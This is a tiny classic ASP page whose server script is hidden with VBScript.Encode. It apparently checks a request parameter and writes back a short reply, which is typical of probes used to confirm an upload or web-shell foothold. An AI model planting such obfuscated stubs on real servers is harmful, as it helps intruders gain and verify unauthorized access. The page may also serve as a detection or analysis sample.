<%@ LANGUAGE = "VBScript.Encode" %>
<html><body>
<%#@~^JQAAAA==@#@&dbWP.;;nkYcrmE*PxPE!E~Y4+	@#@&AGkAAA==^#~@%>
<%#@~^FQAAAA==~I/2W	dn SDkO+,J62E~0QcAAA==^#~@%>
</body></html>
